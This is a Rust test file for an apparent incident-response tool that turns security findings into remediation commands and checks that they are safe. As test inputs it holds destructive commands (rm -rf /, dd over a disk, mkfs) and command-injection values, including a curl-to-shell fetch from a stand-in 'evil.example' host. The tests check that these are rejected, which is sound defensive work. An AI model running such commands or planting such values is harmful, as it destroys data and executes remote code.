use falco_responder::mapper::{
    CommandCategory, CommandMapper, ExecutionMode, MapperConfig, MappingContext, Priority, SafetyChecker,
};
use falco_responder::{Finding, RiskLevel};

fn templates_of(cmds: &[falco_responder::mapper::MappedCommand]) -> Vec<&str> {
    cmds.iter().map(|c| c.template()).collect()
}

#[test]
fn test_destructive_remediation_never_mapped() {
    let mapper = CommandMapper::default();
    let finding = Finding::new("Compromised build host", RiskLevel::High, 0.9)
        .with_remediation("Execute: rm -rf / --no-preserve-root")
        .with_remediation("Run `dd if=/dev/zero of=/dev/sda` to wipe the disk")
        .with_remediation("command: mkfs.ext4 /dev/sdb1")
        .with_remediation("Run `rm -fr /var/lib` to clear the state")
        .with_remediation("Run `rm  -rf /etc` to reset configuration")
        .with_remediation("Run `rm -r -f /home` to remove user data")
        .with_remediation("Use command `systemctl status sshd` to confirm");

    let cmds = mapper.map(&finding, &MappingContext::default());
    let custom: Vec<_> = cmds
        .iter()
        .filter(|c| c.category() == CommandCategory::Custom)
        .map(|c| c.command())
        .collect();
    assert_eq!(custom, vec!["systemctl status sshd"]);
}

#[test]
fn test_hostile_entities_cannot_inject() {
    let mapper = CommandMapper::default();
    let checker = SafetyChecker::default();
    let finding = Finding::new("Malware dropped by a backdoor", RiskLevel::Critical, 0.97)
        .with_process(1337, "xmrig; curl http://evil.example/x | sh")
        .with_connection("203.0.113.9:4444`id`")
        .with_file("/tmp/$(reboot)/payload")
        .with_service("nginx && halt");

    let cmds = mapper.map(&finding, &MappingContext::default());
    assert!(!cmds.is_empty());
    for cmd in &cmds {
        assert!(checker.is_safe(cmd.command()), "{}", cmd.command());
        for op in ["&&", "||", ";", "|", ">", "<", "`", "$("] {
            assert!(!cmd.command().contains(op), "{} contains {}", cmd.command(), op);
        }
        if let Some(rb) = cmd.rollback() {
            assert!(checker.is_safe(rb), "rollback {}", rb);
        }
        assert!(mapper.validate_command(cmd).valid);
    }
}

#[test]
fn test_ransomware_response_plan() {
    let mapper = CommandMapper::default();
    let finding = Finding::new("Ransomware encrypting user documents", RiskLevel::Critical, 0.95)
        .with_process(31337, "locker")
        .with_file("/home/alice/docs/report.pdf")
        .with_service("nginx");

    let cmds = mapper.map(&finding, &MappingContext::default());
    assert_eq!(
        templates_of(&cmds),
        vec!["kill_process", "quarantine_file", "stop_service", "send_alert", "log_incident"]
    );
    assert_eq!(cmds[0].command(), "kill -9 31337");
    assert_eq!(cmds[0].priority(), Priority::Critical);
    assert_eq!(cmds[0].mode(), ExecutionMode::Immediate);
    assert_eq!(
        cmds[1].command(),
        "mv /home/alice/docs/report.pdf /var/quarantine/report.pdf.quarantine"
    );
    assert_eq!(
        cmds[1].rollback(),
        Some("mv /var/quarantine/report.pdf.quarantine /home/alice/docs/report.pdf")
    );
    assert_eq!(cmds[2].rollback(), Some("systemctl start nginx"));

    let stop = mapper.validate_command(&cmds[2]);
    assert!(stop.valid);
    assert!(stop.warnings.iter().any(|w| w == "HIGH risk command"));
    assert!(stop.warnings.iter().any(|w| w.contains("elevated privileges")));
    let kill = mapper.validate_command(&cmds[0]);
    assert!(kill.warnings.iter().any(|w| w.starts_with("No rollback")));
}

#[test]
fn test_finding_file_format() {
    let yaml = r#"
summary: Port scan from external host
risk_level: high
confidence: 0.9
remediation_steps:
  - Block the scanning host at the edge
context:
  connection:
    dest: "198.51.100.20:22"
    proto: TCP
"#;
    let finding: Finding = serde_yaml::from_str(yaml).unwrap();
    let mapper = CommandMapper::default();
    let cmds = mapper.map(&finding, &MappingContext::default());
    let rendered: Vec<_> = cmds.iter().map(|c| c.command()).collect();

    assert!(rendered.contains(&"iptables -A INPUT -s 198.51.100.20 -j DROP"));
    assert!(rendered.contains(&"iptables -A INPUT -p tcp --dport 22 -j DROP"));
    assert!(rendered.contains(&"ss -K dst 198.51.100.20:22"));
    assert_eq!(cmds.last().map(|c| c.template()), Some("log_incident"));
    assert!(templates_of(&cmds).contains(&"send_alert"));
}

#[test]
fn test_extra_denied_patterns_from_config() {
    let mapper = CommandMapper::new(MapperConfig {
        extra_denied: vec!["iptables".to_string()],
        ..Default::default()
    });
    let finding = Finding::new("DDoS traffic spike", RiskLevel::High, 0.9).with_connection("192.0.2.1:80");
    let cmds = mapper.map(&finding, &MappingContext::default());
    assert!(cmds.iter().all(|c| !c.command().contains("iptables")));
    assert!(templates_of(&cmds).contains(&"disconnect_connection"));
}

#[test]
fn test_every_priority_sorts_ahead_of_lower() {
    let mapper = CommandMapper::default();
    let finding = Finding::new("Service crash followed by privilege escalation", RiskLevel::Medium, 0.8)
        .with_process(90, "postgres");
    let cmds = mapper.map(&finding, &MappingContext::default());
    for pair in cmds.windows(2) {
        assert!(
            pair[0].priority() >= pair[1].priority(),
            "{} before {}",
            pair[0].priority(),
            pair[1].priority()
        );
    }
    let stats = mapper.statistics();
    assert_eq!(stats.total_commands, cmds.len());
}
